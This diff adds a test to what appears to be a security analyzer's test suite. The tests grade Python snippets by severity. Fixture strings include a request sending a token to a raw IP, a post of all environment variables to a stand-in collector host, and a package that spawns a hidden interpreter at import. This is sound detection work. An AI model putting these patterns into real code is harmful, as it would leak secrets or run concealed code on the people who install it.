@@ -227,3 +227,9 @@ test('a token in an API call’s headers is medium; the same token as cargo, to 
   assert.equal(severity('requests.get("http://203.0.113.9/user", headers={"Authorization": token}, timeout=5)'), 'high');
   assert.equal(severity('requests.post("https://collector.example.invalid/", headers=dict(os.environ), timeout=5)'), 'high');
 });
+
+test('a package that hands a second interpreter code at import is high; one that asks git for its version is medium', () => {
+  const severityIn = (source: string): string | undefined => analyzer.analyze('pkg/__init__.py', Buffer.from(source)).findings.find((f) => f.ruleId === 'import-time-process')?.severity;
+  assert.equal(severityIn('import subprocess\np = subprocess.Popen(["python3", "-c", "from seccache import cache_manager"], close_fds=True)\n'), 'high');
+  assert.equal(severityIn('import subprocess\n__version__ = subprocess.check_output(["git", "describe", "--tags"]).decode()\n'), 'medium');
+});
